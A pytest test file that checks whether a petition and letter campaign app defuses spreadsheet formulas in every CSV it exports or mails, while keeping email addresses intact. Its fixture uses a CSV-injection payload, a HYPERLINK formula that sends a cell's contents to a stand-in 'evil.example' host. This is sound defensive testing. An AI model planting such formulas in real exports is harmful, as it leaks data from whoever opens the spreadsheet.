"""Every CSV the product writes defuses formulas and keeps addresses as they are.

The routes come from the app's URL map: each is fetched (as an owner, with real ids), and every
answer that is a CSV, or a zip holding CSVs, is read cell by cell; so is every CSV attached to a
delivery's mail. A signer, sign-ons and a partner whose every text field is a formula go in; a
new route that answers a CSV fails the walk until it is named in CSV_ENDPOINTS.
"""
import csv
import io
import zipfile

import pytest

from campaign.base.csvfile import ADDRESS_COLUMNS, FORMULA_STARTS
from campaign.base.extensions import db
from campaign.base.timeutil import utcnow
from campaign.core.accounts.models import Role
from campaign.core.consent.models import ConsentWording
from campaign.core.letters.models import IndividualSignOn
from campaign.core.organizations.models import Decision, OrganizationSignOn
from campaign.core.targets.models import Target, TargetKind
from campaign.core.targets.operations import add_contact
from campaign.features.deliveries.models import Delivery
from campaign.features.partners import tokens as partner_tokens
from campaign.features.partners.models import SignaturePartnerConsent

EVIL = '=HYPERLINK("http://evil.example/?"&C2,"x")'
ADDRESSES = {"+eve@example.org", "+rosa@privacynow.example", "-sam@example.org"}
# The routes that answer a CSV (or a zip of CSVs), and those of them reached by a POST (a
# button: mail scanners follow links).
CSV_ENDPOINTS = {"exports.petition_download", "organize_letters.signatories_csv", "partners.download",
                 "deliveries.download"}
POSTED = {"partners.download"}


@pytest.fixture
def hostile(app, create_petition, create_letter, create_signature, create_organizer):
    """A petition, a letter of the same slug, a partner and two deliveries, every text a formula;
    returns the values of every URL argument."""
    petition_id = create_petition(slug="acme", share_email_question="Let the targets see my email address.")
    letter_id = create_letter(slug="acme")
    colleague_id = create_organizer(email="colleague@example.org", role=Role.ORGANIZER)
    signature_id = create_signature(petition_id, email="+eve@example.org", first_name=EVIL, last_name=EVIL, city=EVIL,
                                    postcode=EVIL[:20], phone="+1 555 0100", comment=EVIL, source=EVIL[:100],
                                    referrer=EVIL, shares_email=True)
    with app.app_context():
        now = utcnow()
        sign_ons = {
            parent: OrganizationSignOn(
                **{parent: parent_id}, name=EVIL, name_key="evil", city=EVIL, region="NY", website="",
                contact_name=EVIL, contact_title=EVIL, contact_phone="+1 555 0199", email="+rosa@privacynow.example",
                email_key="rosa@privacynow.example", is_listed=True, confirmed_at=now, decision=Decision.APPROVED,
                display_name=EVIL)
            for parent, parent_id in (("letter_id", letter_id), ("petition_id", petition_id))}
        person = IndividualSignOn(letter_id=letter_id, first_name=EVIL, last_name=EVIL, affiliation=EVIL,
                                  email="-sam@example.org", email_key="-sam@example.org", is_named=True,
                                  confirmed_at=now, decision=Decision.APPROVED)
        target = Target(kind=TargetKind.COMPANY, name="Acme Social, Inc.")
        db.session.add_all([*sign_ons.values(), person, target])
        db.session.flush()
        partner = sign_ons["petition_id"]
        partner.is_offered_to_signers = True
        db.session.add(SignaturePartnerConsent(signature_id=signature_id, organization_sign_on_id=partner.id,
                                               has_consented=True, wording_id=ConsentWording.id_for("Let them.")))
        add_contact(target, "jordan@acme.example", "Jordan Reyes")
        deliveries = [Delivery(action_kind=kind, action_id=action_id, subject="S", message="M", target_ids=[target.id])
                      for kind, action_id in (("petition", petition_id), ("letter", letter_id))]
        db.session.add_all(deliveries)
        db.session.commit()
        with app.test_request_context():
            token = partner_tokens.link(partner).rsplit("/", 1)[1]
        values = {"petition_id": petition_id, "letter_id": letter_id, "slug": "acme", "token": token,
                  "organizer_id": colleague_id,
                  "delivery_id": deliveries[0].id, "target_id": target.id, "kind": "petition",
                  "action_id": petition_id, "sign_on_id": partner.id, "name": "none.png",
                  "filename": "css/site.css", "letter_delivery_id": deliveries[1].id, "webhook_id": 1,
                  "update_id": 0}  # no update: no CSV either
        db.session.remove()
    return values


def check(data, where):
    """Every cell of the CSV `data` is defused, but those of address columns, which are as kept;
    returns the addresses in it."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8").removeprefix("\ufeff"), newline="")))
    cells = [(name, cell) for row in rows[1:] for name, cell in zip(rows[0], row, strict=True)]
    assert any(cell.startswith("'=HYPERLINK(") for _, cell in cells), f"{where}: the hostile signer is missing"
    for name, cell in cells:
        if name in ADDRESS_COLUMNS:
            assert cell == "" or cell in ADDRESSES, (where, name, cell)
        else:
            assert not cell.startswith(FORMULA_STARTS), (where, name, cell)
    return {cell for name, cell in cells if name in ADDRESS_COLUMNS} - {""}


def csv_files(response):
    """[(name, bytes)] of the CSVs in a response: itself, or the members of its zip."""
    if response.mimetype == "text/csv":
        return [("", response.get_data())]
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    return [(name, archive.read(name)) for name in archive.namelist() if name.endswith(".csv")]


def test_every_csv_download_defuses_formulas_and_keeps_addresses(app, client, login, hostile):
    login(Role.OWNER)
    answered, addresses = set(), set()
    for rule in app.url_map.iter_rules():
        for method in ("GET", "POST") if rule.endpoint in POSTED else ("GET",):
            if method not in rule.methods:
                continue
            variants = [hostile]
            if "delivery_id" in rule.arguments:  # the letter's delivery too, with its own signers
                variants.append({**hostile, "delivery_id": hostile["letter_delivery_id"]})
            for values in variants:
                with app.test_request_context():
                    url = app.url_for(rule.endpoint, **{name: values[name] for name in rule.arguments})
                response = client.open(url, method=method)
                if response.mimetype in ("text/csv", "application/zip"):
                    answered.add(rule.endpoint)
                    files = csv_files(response)
                    assert files, f"{url}: no CSV in it"
                    for name, data in files:
                        addresses |= check(data, f"{method} {url} {name}")
                response.close()
    assert answered == CSV_ENDPOINTS
    assert addresses == ADDRESSES  # each one read back exactly as typed


def test_every_csv_attached_to_mail_defuses_formulas_and_keeps_addresses(app, client, login, hostile, smtp,
                                                                         deliver_mail):
    login(Role.OWNER)
    for delivery_id in (hostile["delivery_id"], hostile["letter_delivery_id"]):
        assert client.post(f"/organize/deliveries/{delivery_id}/send").status_code == 302
    deliver_mail()
    attached = [(message["Subject"], part) for message in smtp.to("jordan@acme.example")
                for part in message.iter_attachments() if part.get_content_type() == "text/csv"]
    assert len(attached) == 2
    addresses = set()
    for subject, part in attached:
        addresses |= check(part.get_payload(decode=True), f"{subject}: {part.get_filename()}")
    assert addresses == {"+eve@example.org"}  # the petition's signer who shares it; a letter's carry none
